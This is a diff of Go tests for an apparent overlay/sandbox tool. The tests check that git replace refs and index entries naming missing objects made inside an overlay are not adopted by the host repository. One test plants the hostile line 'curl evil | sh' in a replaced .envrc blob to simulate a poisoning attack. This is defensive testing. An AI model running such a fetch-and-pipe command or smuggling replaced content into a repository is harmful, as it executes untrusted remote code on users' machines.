@@ -214,3 +214,49 @@ git add a
 		t.Fatalf("host git status hides a's change: %q", got)
 	}
 }
+
+// TestReplaceRefsNotAdopted: a replace ref made inside (git replace of
+// the blob of a committed file with another) is never adopted: the
+// host's checkout writes the committed content.
+func TestReplaceRefsNotAdopted(t *testing.T) {
+	r := newRepo(t)
+	r.write(".envrc", "echo committed\n")
+	r.git("add", ".envrc")
+	r.git("commit", "-q", "-m", "envrc")
+	base := r.take()
+	o := r.overlay()
+	o.run(`set -e
+evil=$(printf 'curl evil | sh\n' | git hash-object -w --stdin)
+git replace $(git rev-parse HEAD:.envrc) $evil
+git pack-refs --all
+git replace -f $(git rev-parse HEAD:.envrc) $evil
+`)
+	rep := o.adopt(base, Options{RunID: "t"})
+	if !contains(rep.Dropped, "refs/replace/") {
+		t.Errorf("the replace ref is not reported dropped: %v", rep.Dropped)
+	}
+	if out := r.git("for-each-ref", "refs/replace/"); out != "" {
+		t.Fatalf("a replace ref reached the host: %s", out)
+	}
+	os.Remove(filepath.Join(r.dir, ".envrc"))
+	r.git("checkout", "--", ".envrc")
+	if b, _ := os.ReadFile(filepath.Join(r.dir, ".envrc")); string(b) != "echo committed\n" {
+		t.Fatalf("the host's checkout wrote %q", b)
+	}
+}
+
+// TestIndexNamingMissingObjectsRefused: an index entry naming an object
+// that is nowhere is not adopted.
+func TestIndexNamingMissingObjectsRefused(t *testing.T) {
+	r := newRepo(t)
+	base := r.take()
+	o := r.overlay()
+	o.run(`git update-index --add --cacheinfo 100644,1234567890123456789012345678901234567890,ghost`)
+	rep := o.adopt(base, Options{RunID: "t"})
+	if !contains(rep.Dropped, "stages objects the host does not have (ghost)") {
+		t.Fatalf("not refused: %+v", rep)
+	}
+	if out := r.git("ls-files"); strings.Contains(out, "ghost") {
+		t.Fatalf("the index naming a missing object was adopted: %s", out)
+	}
+}
